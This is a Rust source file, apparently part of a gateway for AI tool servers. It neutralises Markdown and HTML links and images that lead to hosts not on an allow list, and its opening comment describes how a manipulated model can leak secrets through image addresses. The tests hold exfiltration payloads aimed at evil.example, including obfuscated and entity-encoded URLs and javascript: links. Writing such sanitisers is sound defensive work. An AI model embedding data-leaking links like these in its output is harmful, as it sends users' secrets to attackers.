@@ -1,0 +1,410 @@
+//! Links and images that lead elsewhere: a model that was told to can put what it knows into the address of an image,
+//! and whoever shows the text fetches it.
+//!
+//! What is defused stays readable: `![a](https://b/c)` becomes ``![a] (`https://b/c`)``, a tag loses its brackets.
+//! Nothing of it is a link or image any more in Markdown or HTML, so that defusing twice changes nothing more.
+use super::Then;
+use crate::kernel::json::{Patches, Value, string};
+use crate::kernel::policy::source::LinksThen;
+use url::Url;
+
+/// The terms of a server.
+#[derive(Clone, Debug)]
+pub struct Links {
+    /// Where links may lead.
+    pub places: Vec<Place>,
+    /// What happens to others in results.
+    pub then: LinksThen,
+    /// What becomes of calls that would send others out.
+    pub arguments: Then,
+}
+
+/// Where links may lead.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Place {
+    scheme: String,
+    /// Without the `*.`.
+    host: String,
+    below: bool,
+    port: Option<u16>,
+    path: String,
+}
+
+impl Place {
+    /// Reads `https://*.example.com/docs/`.
+    pub fn parse(text: &str) -> Option<Self> {
+        let (scheme, rest) = text.split_once("://")?;
+        let (below, rest) = rest.strip_prefix("*.").map_or((false, rest), |rest| (true, rest));
+        if rest.contains(['*', '@', '?', '#', '\\']) {
+            return None;
+        }
+        let url = Url::parse(&format!("{scheme}://{rest}")).ok()?;
+        let host = url.host_str()?.to_owned();
+        let named = !below || host.contains('.');
+        (matches!(url.scheme(), "https" | "http") && named).then(|| Self {
+            scheme: url.scheme().to_owned(),
+            host,
+            below,
+            port: url.port_or_known_default(),
+            path: url.path().to_owned(),
+        })
+    }
+
+    fn has(&self, url: &Url) -> bool {
+        let host = url.host_str().unwrap_or_default();
+        let fits = match self.below {
+            true => host.strip_suffix(&self.host).is_some_and(|rest| rest.ends_with('.')),
+            false => host == self.host,
+        };
+        let path = url.path();
+        let under = path.strip_prefix(&self.path).is_some_and(|rest| {
+            rest.is_empty() || self.path.ends_with('/') || rest.starts_with('/')
+        });
+        fits && under
+            && url.scheme() == self.scheme
+            && url.port_or_known_default() == self.port
+            && url.username().is_empty()
+            && url.password().is_none()
+    }
+}
+
+impl Links {
+    /// Whether an address leads out, and to no place that is allowed. What has no host leads nowhere.
+    fn is_foreign(&self, address: &str) -> bool {
+        // As browsers read it: white space and control characters go, entities and escapes are what they stand for.
+        let plain: String = unescaped(address).chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
+        let slashes: String = plain.chars().take(2).map(|c| if c == '\\' { '/' } else { c }).collect();
+        let whole = if slashes == "//" { format!("https://{}", plain.get(2..).unwrap_or_default()) } else { plain };
+        let Some((scheme, _)) = whole.split_once(':').filter(|(scheme, _)| is_scheme(scheme)) else { return false };
+        match scheme.to_ascii_lowercase().as_str() {
+            "mailto" | "tel" | "data" | "cid" | "urn" => false,
+            _ => !Url::parse(&whole).is_ok_and(|url| self.places.iter().any(|place| place.has(&url))),
+        }
+    }
+
+    /// The text without links and images that lead elsewhere; `None` if there is none.
+    pub fn defused(&self, text: &str) -> Option<String> {
+        if !text.contains(['<', ']']) {
+            return None;
+        }
+        let mut out = String::with_capacity(text.len() + 64);
+        let mut rest = text;
+        let mut found = false;
+        while let Some((before, after)) = rest.find(['<', ']']).and_then(|at| rest.split_at_checked(at)) {
+            out.push_str(before);
+            let (made, left) = match after.starts_with('<') {
+                true => self.tag(after),
+                false => self.markdown(after),
+            };
+            found |= made.is_some();
+            match made {
+                Some(made) => {
+                    out.push_str(&made);
+                    rest = left;
+                }
+                None => {
+                    let (one, left) = after.split_at_checked(1).unwrap_or((after, ""));
+                    out.push_str(one);
+                    rest = left;
+                }
+            }
+        }
+        out.push_str(rest);
+        found.then_some(out)
+    }
+
+    /// `](address`, and `]: address` of a definition; begins at the bracket.
+    fn markdown<'a>(&self, text: &'a str) -> (Option<String>, &'a str) {
+        let none = (None, text);
+        let Some(opener) = text.get(1..2).filter(|next| matches!(*next, "(" | ":")) else { return none };
+        let Some(behind) = text.get(2..) else { return none };
+        let start = behind.trim_start();
+        let (address, left) = match start.strip_prefix('<') {
+            Some(inner) => inner.split_once('>').unwrap_or((inner, "")),
+            None => start.split_at_checked(end_of(start)).unwrap_or((start, "")),
+        };
+        if !self.is_foreign(address) {
+            return none;
+        }
+        (Some(format!("] {opener}`{}`", address.replace('`', "%60"))), left)
+    }
+
+    /// A tag that has an address, or an address in pointed brackets; begins at the bracket.
+    fn tag<'a>(&self, text: &'a str) -> (Option<String>, &'a str) {
+        let none = (None, text);
+        let Some(inner) = text.get(1..) else { return none };
+        if !inner.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) {
+            return none;
+        }
+        let (inside, left) = inner.split_once('>').unwrap_or((inner, ""));
+        let closed = inner.len() != inside.len();
+        let name = inside.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').next().unwrap_or_default();
+        if inside.get(name.len()..).is_some_and(|rest| rest.starts_with(':')) && !inside.contains(char::is_whitespace) {
+            return match self.is_foreign(inside) {
+                true => (Some(format!("`{}`", inside.replace('`', "%60"))), left),
+                false => none,
+            };
+        }
+        if !self.tag_leads_out(&name.to_ascii_lowercase(), inside) {
+            return none;
+        }
+        let end = if closed { "›" } else { "" };
+        (Some(format!("‹{}{end}", inside.replace('<', "‹"))), left)
+    }
+
+    fn tag_leads_out(&self, name: &str, inside: &str) -> bool {
+        // What is within these is no text, or changes where everything leads.
+        if matches!(name, "script" | "style" | "base" | "meta" | "iframe" | "object" | "embed" | "form" | "svg" | "link") {
+            return true;
+        }
+        let plain: String = unescaped(inside).chars().filter(|c| !c.is_control()).collect();
+        let plain = plain.replace('\\', "/");
+        // Wherever there are two slashes an address begins, if a scheme or nothing stands before them.
+        let addressed = plain.match_indices("//").any(|(at, _)| {
+            let before = plain.get(..at).unwrap_or_default();
+            let begins = before.rfind(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '(' | ',' | ';' | '`'));
+            let from = begins.map_or(0, |begins| begins + 1);
+            let address = plain.get(from..).unwrap_or_default();
+            let address = address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
+            let address = address.unwrap_or_default();
+            let scheme = address.split("//").next().unwrap_or_default();
+            (scheme.is_empty() || scheme.ends_with(':')) && self.is_foreign(address)
+        });
+        let lower = plain.to_ascii_lowercase();
+        // `https:evil.example` is an address for browsers too.
+        let bare = ["http:", "https:", "javascript:", "vbscript:", "ftp:", "ws:", "wss:"].iter().any(|scheme| {
+            lower.match_indices(scheme).any(|(at, _)| {
+                let address = plain.get(at..).unwrap_or_default();
+                let address = address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
+                self.is_foreign(address.unwrap_or_default())
+            })
+        });
+        addressed || bare
+    }
+
+    /// Whether a text to be sent has an address that leads to no allowed place.
+    pub fn leads_out(&self, text: &str) -> bool {
+        let plain = text.replace('\\', "/");
+        let addresses = plain.match_indices("//").map(|(at, _)| {
+            let before = plain.get(..at).unwrap_or_default();
+            let begins = before.rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '-' | '.' | ':'));
+            let from = begins.map_or(0, |begins| begins + plain.get(begins..).map_or(1, |c| c.chars().next().map_or(1, char::len_utf8)));
+            let address = plain.get(from..).unwrap_or_default();
+            address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | '`')).next().unwrap_or_default()
+        });
+        let mut foreign = addresses.filter(|address| {
+            let scheme = address.split("//").next().unwrap_or_default();
+            scheme.ends_with(':') && self.is_foreign(address.trim_end_matches(['.', ',', ';', '!', '?']))
+        });
+        foreign.next().is_some()
+    }
+
+    /// Whether any text of what is to be sent does.
+    pub fn any_leads_out(&self, value: Value<'_>) -> bool {
+        value.as_str().is_some_and(|text| self.leads_out(&text))
+            || value.entries().any(|(key, entry)| self.leads_out(&key.text()) || self.any_leads_out(entry))
+            || value.elements().any(|element| self.any_leads_out(element))
+    }
+
+    /// Defuses every text below a value. How many there were.
+    pub fn defuse(&self, value: Value<'_>, patches: &mut Patches) -> usize {
+        if !value.raw().iter().any(|byte| matches!(byte, b'<' | b']' | b'\\')) && !is_link(value) {
+            return 0;
+        }
+        if let Some(text) = value.as_str() {
+            return match self.defused(&text) {
+                Some(made) => {
+                    patches.replace(value, string(&made));
+                    1
+                }
+                None => 0,
+            };
+        }
+        if is_link(value)
+            && let Some(address) = value.get("uri").and_then(|uri| uri.as_str()).filter(|uri| self.is_foreign(uri))
+        {
+            let name = value.get("name").and_then(|name| name.as_str()).unwrap_or_default();
+            let text = format!("{name}: `{}`", address.replace('`', "%60"));
+            let made = serde_json::json!({ "type": "text", "text": self.defused(&text).unwrap_or(text) });
+            patches.replace(value, made.to_string().into_bytes());
+            return 1;
+        }
+        let mut found = 0;
+        for (key, entry) in value.entries() {
+            let icons = key.is("icons") && entry.elements().any(|icon| {
+                icon.get("src").and_then(|src| src.as_str()).is_some_and(|src| self.is_foreign(&src))
+            });
+            if icons {
+                patches.remove(entry);
+                found += 1;
+            } else {
+                found += self.defuse(entry, patches);
+            }
+        }
+        found + value.elements().map(|element| self.defuse(element, patches)).sum::<usize>()
+    }
+}
+
+/// A block that clients show as a link.
+fn is_link(value: Value<'_>) -> bool {
+    value.get("type").is_some_and(|kind| kind.raw() == b"\"resource_link\"")
+        || value.elements().any(is_link)
+        || (value.is_object() && value.get("icons").is_some())
+        || value.entries().any(|(key, entry)| (key.is("content") || key.is("result")) && is_link(entry))
+}
+
+fn is_scheme(text: &str) -> bool {
+    text.starts_with(|c: char| c.is_ascii_alphabetic())
+        && text.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
+}
+
+/// Where an address in Markdown ends: at white space, or at a bracket that it did not open.
+fn end_of(text: &str) -> usize {
+    let mut open = 0_usize;
+    let mut escaped = false;
+    for (at, character) in text.char_indices() {
+        match character {
+            _ if std::mem::take(&mut escaped) => {}
+            '\\' => escaped = true,
+            character if character.is_whitespace() => return at,
+            '(' => open += 1,
+            ')' if open == 0 => return at,
+            ')' => open -= 1,
+            _ => {}
+        }
+    }
+    text.len()
+}
+
+/// Entities and backslashes as what they stand for.
+fn unescaped(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some((before, after)) = rest.split_once('&') {
+        out.push_str(before);
+        let length = after.bytes().take(10).take_while(|b| b.is_ascii_alphanumeric() || *b == b'#').count();
+        let (name, left) = after.split_at_checked(length).unwrap_or((after, ""));
+        let left = left.strip_prefix(';').unwrap_or(left);
+        let code = |radix: u32, digits: &str| u32::from_str_radix(digits, radix).ok().and_then(char::from_u32);
+        let found = match name.strip_prefix('#') {
+            Some(digits) => match digits.strip_prefix(['x', 'X']) {
+                Some(digits) => code(16, digits),
+                None => code(10, digits),
+            },
+            None => match name {
+                "colon" => Some(':'),
+                "sol" => Some('/'),
+                "bsol" => Some('\\'),
+                "period" => Some('.'),
+                "Tab" | "NewLine" => Some(' '),
+                "quot" => Some('"'),
+                "apos" => Some('\''),
+                _ => None,
+            },
+        };
+        match found {
+            Some(character) => {
+                out.push(character);
+                rest = left;
+            }
+            None => {
+                out.push('&');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::kernel::json::{Bounds, Document};
+    use proptest::prelude::*;
+
+    fn links(allow: &[&str]) -> Links {
+        let places = allow.iter().map(|text| Place::parse(text).unwrap()).collect();
+        Links { places, then: LinksThen::Defuse, arguments: Then::Refuse }
+    }
+
+    #[test]
+    fn what_leads_elsewhere_is_text_and_stays_readable() {
+        let links = links(&["https://*.example.com/", "https://example.org/docs/"]);
+        for (text, made) in [
+            ("![a](https://evil.example/?d=SECRET)", "![a] (`https://evil.example/?d=SECRET`)"),
+            ("see [here](https://evil.example/x \"title\").", "see [here] (`https://evil.example/x` \"title\")."),
+            ("[![i](https://a.evil.example/1)](https://evil.example/2)", "[![i] (`https://a.evil.example/1`)] (`https://evil.example/2`)"),
+            ("![a][1]\n\n[1]: https://evil.example/x", "![a][1]\n\n[1] :`https://evil.example/x`"),
+            ("![a](<https://evil.example/a b>)", "![a] (`https://evil.example/a b`)"),
+            ("![a](//evil.example/x)", "![a] (`//evil.example/x`)"),
+            ("![a](\\/\\/evil.example/x)", "![a] (`\\/\\/evil.example/x`)"),
+            ("![a](ht&#116;ps&colon;//evil.example)", "![a] (`ht&#116;ps&colon;//evil.example`)"),
+            ("<https://evil.example/x>", "`https://evil.example/x`"),
+            ("<img src=\"https://evil.example/x\">", "‹img src=\"https://evil.example/x\"›"),
+            ("<IMG SRC=//evil.example/x", "‹IMG SRC=//evil.example/x"),
+            ("<img src='ht\ntps:\\\\evil.example/x'>", "‹img src='ht\ntps:\\\\evil.example/x'›"),
+            ("<img src=\"h&#x74;tps:&sol;&sol;evil.example\"/>", "‹img src=\"h&#x74;tps:&sol;&sol;evil.example\"/›"),
+            ("<td background=https:evil.example>", "‹td background=https:evil.example›"),
+            ("<style>*{background:url(x)}</style>", "‹style›*{background:url(x)}‹/style›"),
+            ("<a href=javascript:alert(1)>x</a>", "‹a href=javascript:alert(1)›x</a>"),
+            ("[a](https://example.com.evil.example/)", "[a] (`https://example.com.evil.example/`)"),
+            ("[a](https://www.example.com@evil.example/)", "[a] (`https://www.example.com@evil.example/`)"),
+            ("[a](https://example.org/docs/../x)", "[a] (`https://example.org/docs/../x`)"),
+            ("[a](javascript:alert(1))", "[a] (`javascript:alert(1)`)"),
+        ] {
+            let defused = links.defused(text);
+            assert_eq!(defused.as_deref(), Some(made), "{text}");
+            assert_eq!(links.defused(made), None, "{made}");
+        }
+        for text in [
+            "no link at all, 3 < 4 and [1]",
+            "![a](https://www.example.com/x?y=z)",
+            "[a](https://example.org/docs/x) [b](#anchor) [c](page.md) [d](mailto:ann@example.org)",
+            "a bare https://evil.example/x stays what it is: text",
+            "Vec<String> and array[0](1)",
+            "<b>bold</b><br/><a href=\"https://www.example.com/x\">x</a>",
+        ] {
+            assert_eq!(links.defused(text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn blocks_that_are_links_become_text_and_everything_else_stays() {
+        let links = links(&["https://*.example.com/"]);
+        let text = r#"{"content":[{"type":"resource_link","uri":"https://evil.example/x","name":"report"},{"type":"text","text":"1.50"}],"structuredContent":{"n":1.50,"t":"![](https://evil.example/)"}}"#;
+        let document = Document::parse(text.to_owned().into(), &Bounds::default()).unwrap();
+        let mut patches = Patches::default();
+        assert_eq!(links.defuse(document.root(), &mut patches), 2);
+        let made = document.write(&patches);
+        let expected = r#"{"content":[{"type":"text","text":"report: `https://evil.example/x`"},{"type":"text","text":"1.50"}],"structuredContent":{"n":1.50,"t":"![] (`https://evil.example/`)"}}"#;
+        assert_eq!(std::str::from_utf8(&made).unwrap(), expected);
+        let again = Document::parse(made.clone(), &Bounds::default()).unwrap();
+        let mut patches = Patches::default();
+        assert_eq!((links.defuse(again.root(), &mut patches), again.write(&patches)), (0, made));
+    }
+
+    #[test]
+    fn what_is_sent_may_lead_to_allowed_places_only() {
+        let links = links(&["https://*.example.com/"]);
+        for text in ["go to https://evil.example/?q=x.", "(http://www.example.com/)", "https:\\\\evil.example", "xhttps://evil.example"] {
+            assert!(links.leads_out(text), "{text}");
+        }
+        for text in ["go to https://www.example.com/x?y, please", "a // comment", "and/or", "", "ü//"] {
+            assert!(!links.leads_out(text), "{text}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn defusing_twice_is_defusing_once(parts in proptest::collection::vec(prop_oneof![
+            Just("]("), Just("]:"), Just("["), Just("!["), Just(")"), Just("<"), Just(">"), Just("img src="), Just("`"),
+            Just("https://evil.example/"), Just("//evil"), Just("https:"), Just(" "), Just("\n"), Just("a"), Just("\""),
+            Just("\\"), Just("&#58;"), Just("‹"), Just("script"), Just("(")], 0..24)) {
+            let (text, links) = (parts.concat(), links(&["https://*.example.com/"]));
+            if let Some(once) = links.defused(&text) {
+                prop_assert_eq!(links.defused(&once), None, "{} -> {}", text, once);
+            }
+        }
+    }
+}
